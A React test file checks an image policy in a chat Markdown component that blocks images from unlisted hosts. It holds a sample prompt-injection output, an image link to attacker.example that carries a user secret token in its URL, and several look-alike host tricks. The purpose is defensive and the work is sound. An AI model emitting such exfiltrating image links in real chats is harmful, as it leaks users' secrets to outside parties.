import { render, screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { describe, expect, it } from 'vitest';

import { createMessage, Markdown, ProChat, type ImagePolicy } from '../../src';
import { imageAllowed } from '../../src/markdown/imagePolicy';

/** What a prompt injection asks the model to write: the secret rides in the image URL. */
const EXFILTRATION = 'Here you go ![chart](https://attacker.example/log?q=user-secret-token)';
const POLICY: ImagePolicy = { allowedPrefixes: ['https://cdn.example.com/img/'], allowedHosts: ['images.example.org'] };

const images = (container: HTMLElement) => [...container.querySelectorAll('img')].map((img) => img.getAttribute('src'));

describe('markdownProps.images: an image policy', () => {
  it('without a policy, http(s) images load as before', () => {
    const { container } = render(<Markdown>{EXFILTRATION}</Markdown>);
    expect(images(container)).toEqual(['https://attacker.example/log?q=user-secret-token']);
  });

  it('with a policy, an image from elsewhere is not fetched: a button names its host and alt text, and loads it on click', async () => {
    const { container } = render(<Markdown images={POLICY}>{EXFILTRATION}</Markdown>);
    expect(images(container)).toEqual([]);
    const button = screen.getByRole('button', { name: /chart · Load image from attacker\.example/ });
    expect(button).toHaveAttribute('title', 'https://attacker.example/log?q=user-secret-token');
    await userEvent.setup().click(button);
    expect(images(container)).toEqual(['https://attacker.example/log?q=user-secret-token']);
    expect(screen.queryByRole('button')).toBeNull();
  });

  it('images from allowed prefixes and hosts, and relative ones, load at once', () => {
    const text = [
      '![a](https://cdn.example.com/img/a.png)',
      '![b](https://images.example.org/any/path/b.png)',
      '![c](/static/c.png)',
      '![d](https://cdn.example.com/other/d.png)',
    ].join('\n\n');
    const { container } = render(<Markdown images={POLICY}>{text}</Markdown>);
    expect(images(container)).toEqual(['https://cdn.example.com/img/a.png', 'https://images.example.org/any/path/b.png', '/static/c.png']);
    expect(screen.getByRole('button', { name: /d · Load image from cdn\.example\.com/ })).toBeInTheDocument();
  });

  it('a bare origin prefix does not admit look-alike hosts, and hosts match exactly', () => {
    const policy: ImagePolicy = { allowedPrefixes: ['https://cdn.example.com'], allowedHosts: ['example.org'] };
    expect(imageAllowed('https://cdn.example.com/x.png', policy)).toBe(true);
    expect(imageAllowed('https://cdn.example.com.attacker.example/x.png', policy)).toBe(false);
    expect(imageAllowed('https://cdn.example.com@attacker.example/x.png', policy)).toBe(false);
    expect(imageAllowed('//attacker.example/x.png', policy)).toBe(false);
    expect(imageAllowed('https://sub.example.org/x.png', policy)).toBe(false);
    expect(imageAllowed('https://EXAMPLE.org/x.png', policy)).toBe(true);
    expect(imageAllowed('/local.png', { allowRelative: false })).toBe(false);
  });

  it("the app's own components.img still renders the images the policy lets through", () => {
    const { container } = render(
      <Markdown images={POLICY} components={{ img: (props) => <img data-custom="yes" src={props.src} alt={props.alt} /> }}>
        {'![a](https://cdn.example.com/img/a.png) ![b](https://attacker.example/b.png)'}
      </Markdown>,
    );
    expect(container.querySelector('img[data-custom="yes"]')).toHaveAttribute('src', 'https://cdn.example.com/img/a.png');
    expect(images(container)).toHaveLength(1);
  });

  it('in ProChat, through markdownProps, in the chat locale', () => {
    const { container } = render(
      <ProChat
        locale="zh-CN"
        markdownProps={{ images: POLICY }}
        initialChats={[createMessage({ id: 'a', role: 'assistant', content: EXFILTRATION, createdAt: 0 })]}
      />,
    );
    expect(images(container).filter((src) => src?.includes('attacker'))).toEqual([]);
    expect(screen.getByRole('button', { name: /加载来自 attacker\.example 的图片/ })).toBeInTheDocument();
  });
});
